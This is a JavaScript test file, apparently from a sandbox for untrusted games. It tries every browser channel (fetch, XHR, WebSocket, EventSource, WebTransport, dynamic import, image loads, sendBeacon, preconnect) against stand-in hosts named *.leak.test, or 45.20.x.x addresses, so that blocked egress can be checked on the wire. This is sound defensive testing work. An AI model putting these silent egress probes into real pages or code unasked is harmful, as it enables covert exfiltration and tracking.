// What a hostile game tries in order to reach a host that it may not reach. Every channel has a name; the name is the
// host that it calls (NAME.leak.test) or, in the mode "ip", an address that belongs to that name alone. So whatever
// is seen on the wire says which channel it came through.
//
// The file runs in the page, in frames of every kind and in workers of every kind, with and without a document.
var CHANNELS = CHANNEL_NAMES

function hosts(mode) {
  return function (name) {
    const i = CHANNELS.indexOf(name)
    if (i < 0) throw new Error('channel without a name: ' + name)
    return mode === 'ip' ? '45.20.' + Math.floor(i / 200) + '.' + (i % 200 + 1) : name + '.leak.test'
  }
}

// realm attacks with the constructors of one global object.
function realm(g, prefix, host) {
  const go = function (kind, f) {
    const h = host(prefix + kind)
    try {
      const r = f('http://' + h + '/' + prefix + kind, h)
      if (r && r.then) r.then(function () {}, function () {})
    } catch (e) { /* the channel is shut or absent: what matters is the wire */ }
  }
  go('fetch', function (u) { return g.fetch(u, { mode: 'no-cors' }) })
  go('xhr', function (u) { const x = new g.XMLHttpRequest(); x.open('GET', u); x.send() })
  go('ws', function (u, h) { return void new g.WebSocket('ws://' + h + '/' + prefix + 'ws') })
  go('es', function (u) { return void new g.EventSource(u) })
  go('wt', function (u, h) { const t = new g.WebTransport('https://' + h + '/'); t.closed.catch(function () {}); return t.ready })
  go('import', function (u) {
    if (g.importScripts) { try { g.importScripts(u + '.js') } catch (e) { /* module worker */ } }
    return (0, g.eval)('import(' + JSON.stringify(u + '2.js') + ')')
  })
  if (!g.document) return
  const add = function (tag, attributes) {
    const e = g.document.createElement(tag)
    for (const k of Object.keys(attributes)) e.setAttribute(k, attributes[k])
    ;(g.document.head || g.document.documentElement || g.document).append(e)
  }
  go('img', function (u) { new g.Image().src = u + '.png'; add('img', { src: u + '2.png' }) })
  go('beacon', function (u) { g.navigator.sendBeacon(u, 'x') })
  go('preconnect', function (u) { add('link', { rel: 'preconnect', href: u }); add('link', { rel: 'dns-prefetch', href: u }) })
}
